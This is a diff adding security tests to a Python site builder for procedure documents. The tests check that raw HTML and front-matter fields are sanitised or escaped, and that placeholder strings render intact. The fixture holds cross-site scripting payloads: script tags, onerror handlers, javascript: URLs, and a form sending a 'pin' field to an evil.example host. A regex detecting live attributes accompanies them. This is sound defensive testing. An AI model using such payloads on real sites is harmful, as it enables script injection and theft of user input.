@@ -132,6 +132,13 @@ def build(root: Path, *extra: str):
     return run("site", "build", "--jobs", "1", "--no-guide", *extra, cwd=root)
 
 
+def article(html: str) -> str:
+    """The page's content: the HTML made from the SOP, without the theme around it."""
+    return html.split('<article class="md-content__inner md-typeset">', 1)[1].split(
+        "</article>", 1
+    )[0]
+
+
 def every_file(site: Path) -> str:
     """Every file the site holds, as text (binary files too, decoded loosely)."""
     return "\n".join(
@@ -335,3 +342,143 @@ def test_an_inherited_mkdocs_file_is_read_safely_too(tmp_path):
     data = read_mkdocs_yml(root / "mkdocs.yml")
     assert data["docs_dir"] == "docs" and data["site_name"] == "Nordlys procedures"
     assert not marker.exists()
+
+
+# -- Leaks: "<script> in an SOP body, and in the front-matter title (rendered unescaped),
+# is published as a live script on every branch's site" -----------------------------------
+
+HOSTILE_BODY = textwrap.dedent(
+    """\
+    ---
+    id: CS-012
+    title: <script>alert('title')</script> Damage & scratches
+    owner: <img src=x onerror=alert('owner')>
+    version: <b onmouseover=alert('version')>2</b>
+    status: effective
+    lang: en
+    ---
+
+    # Damage & scratches
+
+    <script>alert('body')</script>
+
+    <img src="../damage.png" alt="Damage diagram" onerror="alert('img')">
+
+    <a href="javascript:alert('link')">Open the form</a> or <a href="https://nordlys.example/skador">the claims page</a>.
+
+    <iframe src="https://evil.example/"></iframe>
+    <object data="payload.swf"></object>
+    <form action="https://evil.example/steal"><input type="text" name="pin"></form>
+    <style>body { background: url("javascript:alert('css')") }</style>
+    <div style="background-image: url(javascript:alert('style'))">Marked area</div>
+
+    ## Procedure
+
+    1. Press <kbd>Ctrl</kbd>+<kbd>P</kbd> to print the damage report.
+    2. Write the <abbr title="Vehicle identification number">VIN</abbr> on the form.
+    3. Store it at 5 m<sup>2</sup> or less, next to the H<sub>2</sub>O tank.
+    4. <mark>Never</mark> repair the damage yourself.<br>Call {{ branch.phone }} instead.
+
+    <details><summary>If the customer disagrees</summary>
+    Write what the customer says, word for word.
+    </details>
+
+    | Part | Who pays |
+    |:-----|---------:|
+    | Windscreen | Insurance |
+    """
+)
+
+
+# An event handler, a javascript: URL or a style inside a tag (not as escaped text).
+LIVE_ATTRIBUTE = re.compile(
+    r"<[a-z][^>]*\s(?:on[a-z]+\s*=|(?:href|src|action|data)\s*=\s*[\"']?\s*javascript:"
+    r"|style\s*=\s*[\"'][^\"']*url)",
+    re.IGNORECASE,
+)
+
+
+def test_raw_html_in_an_sop_is_sanitised_and_front_matter_is_escaped(tmp_path):
+    root = project(tmp_path, {"en/damage.md": HOSTILE_BODY, "en/damage.png": "png"})
+    result = build(root)
+    assert result.exit_code == 0, result.output
+    for branch in ("goteborg-hamn", "hyderabad-banjara-hills"):
+        for page in ("damage/index.html", "index.html", "dashboard/index.html"):
+            html = (root / "site" / branch / "en" / page).read_text("utf-8")
+            assert "<script>alert" not in html, (branch, page)
+            content = article(html)  # the theme's own search form is outside it
+            for live in ("<iframe", "<object", "<form", 'name="pin"', "<style"):
+                assert live not in content, (branch, page, live)
+            assert not LIVE_ATTRIBUTE.search(html), (branch, page, LIVE_ATTRIBUTE.search(html))
+        page = (root / "site" / branch / "en" / "damage/index.html").read_text("utf-8")
+        # The title is text, everywhere the theme shows it.
+        title = "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt; Damage &amp; scratches"
+        assert f"<title>{title} - " in page
+        assert page.count(title) >= 3  # <title>, header, navigation
+        assert "<dd>&lt;img src=x onerror=alert('owner')&gt;</dd>" in page  # the owner row
+        # What writers use is kept.
+        assert "<kbd>Ctrl</kbd>+<kbd>P</kbd>" in page
+        assert '<abbr title="Vehicle identification number">VIN</abbr>' in page
+        assert "m<sup>2</sup>" in page and "H<sub>2</sub>O" in page
+        assert "<mark>Never</mark>" in page and "<br>" in page
+        assert "<details><summary>If the customer disagrees</summary>" in page
+        assert '<img src="../damage.png" alt="Damage diagram">' in page
+        assert '<a href="https://nordlys.example/skador">the claims page</a>' in page
+        assert '<th style="text-align:left">Part</th>' in page
+        assert "Marked area" in page and "Open the form" in page
+    # Material's own scripts are still there: the theme's HTML is not touched.
+    assert '<script src="../assets/javascripts/bundle.' in page
+
+
+def test_branch_names_from_the_branches_file_are_text_on_every_page(tmp_path):
+    root = project(tmp_path)
+    branches = BRANCHES.replace("name: Göteborg Hamn", 'name: "Göteborg <script>alert(1)</script>"')
+    (root / "branches.yml").write_text(branches, "utf-8")
+    result = build(root)
+    assert result.exit_code == 0, result.output
+    for page in (root / "site" / "goteborg-hamn").rglob("*.html"):
+        assert "<script>alert(1)" not in page.read_text("utf-8"), page
+
+
+# -- Leaks: "Literal text equal to the renderer's internal placeholder strings is replaced by
+# a branch value, or crashes the build with a bare IndexError" ------------------------------
+
+PLACEHOLDERS = "qsoplint0q qsoplint1q qsoplint99q \x00sop-lint-site-name\x00"
+
+
+def test_literal_placeholder_strings_render_unchanged():
+    from sop_lint.site.render import compile_template
+
+    source = "Call {{ branch.phone }} (ref qsoplint0q, qsoplint1q, qsoplint99q).\n"
+    shape = compile_template(source).render_shape({"phone": "031-555 01 20"}, {})
+    assert shape.fill() == "Call 031-555 01 20 (ref qsoplint0q, qsoplint1q, qsoplint99q).\n"
+    html = "<p>Call " + shape.text.split("Call ", 1)[1].split("\n")[0] + "</p>"
+    assert shape.fill_html(html) == (
+        "<p>Call 031-555 01 20 (ref qsoplint0q, qsoplint1q, qsoplint99q).</p>"
+    )
+
+
+def test_literal_line_markers_do_not_move_findings():
+    """The linter's line markers are unforgeable too: a NUL and digits in the SOP's text
+    are not a marker."""
+    from sop_lint.site.render import compile_template
+
+    source = "Line one \x0012\x00 {{ branch.phone }}\nLine two\n"
+    template = compile_template(source, 5, marked=True)
+    text, lines, missing = template.render_checked({"phone": "031"}, {})
+    assert text.lstrip("\n") == "Line one \x0012\x00 031\nLine two\n"
+    assert lines[4:] == [5, 6, 7]
+    assert missing == []
+
+
+def test_a_page_holding_the_placeholder_strings_builds_and_shows_them(tmp_path):
+    page = EN.replace(
+        "1. Check the fuel gauge with the customer.",
+        "1. Write the code qsoplint0q, qsoplint7q and qsoplint99q on the form.",
+    )
+    root = project(tmp_path, {"en/returns.md": page, "sv/returns.md": SV})
+    result = build(root)
+    assert result.exit_code == 0, result.output
+    html = (root / "site/goteborg-hamn/en/returns/index.html").read_text("utf-8")
+    assert "Write the code qsoplint0q, qsoplint7q and qsoplint99q on the form." in html
+    assert "call 031-555 01 20 for the fuel charge" in html
